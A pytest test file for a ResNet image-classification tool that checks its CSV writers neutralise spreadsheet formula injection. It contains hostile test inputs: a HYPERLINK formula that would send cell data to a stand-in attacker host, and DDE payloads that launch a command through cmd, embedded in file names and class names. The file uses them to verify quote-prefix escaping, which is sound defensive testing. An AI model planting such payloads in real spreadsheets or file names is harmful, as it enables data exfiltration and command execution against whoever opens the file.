"""CSV formula injection: file and class names from the data never become live spreadsheet formulas."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pytest
import torch
from PIL import Image

from resnet_apps.data.dataset import write_skipped
from resnet_apps.io.tables import safe_cell, write_csv
from resnet_apps.predict.folder import image_id, predict_folder

EVIL_CLASS = '=HYPERLINK("http://attacker.example/?"&A1,"click")'

META = {
    "task": "classification",
    "classes": ["@benign", EVIL_CLASS],
    "positive_class": EVIL_CLASS,
    "operating_threshold": 0.5,
    "model": {"backbone": "stand-in", "in_chans": 1, "num_classes": 2},
    "preprocessing": {
        "bands": None,
        "scale": 1 / 255,
        "mean": [0.5],
        "std": [0.25],
        "image_size": 8,
        "dicom_window": None,
        "grayscale": True,
    },
}


class Positive(torch.nn.Module):
    """logits [0, 5]: every image is the (hostile) positive class."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.tensor([[0.0, 5.0]]).repeat(x.shape[0], 1)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),  # formula
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),  # DDE
        ("-2+3", "'-2+3"),  # starts with minus but is an expression
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),  # tab and carriage return hide a formula after them
        ("\r=1", "'\r=1"),
        ("-0.25", "-0.25"),  # a negative number stays a number
        ("+3", "+3"),
        ("-1e-4", "-1e-4"),
        (-0.25, -0.25),  # numbers are never touched
        (7, 7),
        ("a=1", "a=1"),  # only the first character matters
        ("", ""),
    ],
)
def test_safe_cell_table(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


def _rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_predictions_and_errors_csv_neutralise_names(tmp_path: Path) -> None:
    root = tmp_path / "in"
    root.mkdir()
    Image.fromarray(np.full((8, 8), 100, np.uint8)).save(root / "=1+2.png")
    (root / "@SUM(1).png").write_bytes(b"not a png")  # unreadable: goes to errors.csv
    out = tmp_path / "out"
    result = predict_folder(Positive(), META, [root], out, batch_size=2, progress=False)
    assert (result["predicted"], result["errors"]) == (1, 1)
    header, row = _rows(out / "predictions.csv")
    assert row[0] == image_id("=1+2.png")  # the id is still the hash of the real name (resume key)
    assert row[1] == "'=1+2.png"
    assert (
        row[header.index("pred")] == "'" + EVIL_CLASS
    )  # pred is followed by threshold, dicom_window, warning
    assert float(row[header.index(f"p_{EVIL_CLASS}")]) == pytest.approx(1 / (1 + np.exp(-5)), abs=1e-5)
    _, error = _rows(out / "errors.csv")
    assert error[1] == "'@SUM(1).png" and error[0] == image_id("@SUM(1).png")
    # a second run resumes: nothing is predicted again although the CSV shows the quoted names
    again = predict_folder(Positive(), META, [root], out, batch_size=2, progress=False)
    assert (again["predicted"], again["errors"], again["skipped_done"]) == (0, 0, 2)
    assert all(not cell.startswith(("=", "+", "@")) for r in _rows(out / "predictions.csv") for cell in r)


def test_skipped_csv_and_write_csv(tmp_path: Path) -> None:
    write_skipped(
        [{"path": "=cmd|' /C calc'!A0.tif", "reason": "-unreadable"}, {"path": "ok.tif", "reason": "x"}],
        tmp_path / "skipped.csv",
    )
    assert _rows(tmp_path / "skipped.csv") == [
        ["path", "reason"],
        ["'=cmd|' /C calc'!A0.tif", "'-unreadable"],
        ["ok.tif", "x"],
    ]
    write_csv(tmp_path / "t.csv", ["name", "value"], [["=A1", -1.5], {"name": "b", "value": "-2"}])
    assert _rows(tmp_path / "t.csv") == [["name", "value"], ["'=A1", "-1.5"], ["b", "-2"]]
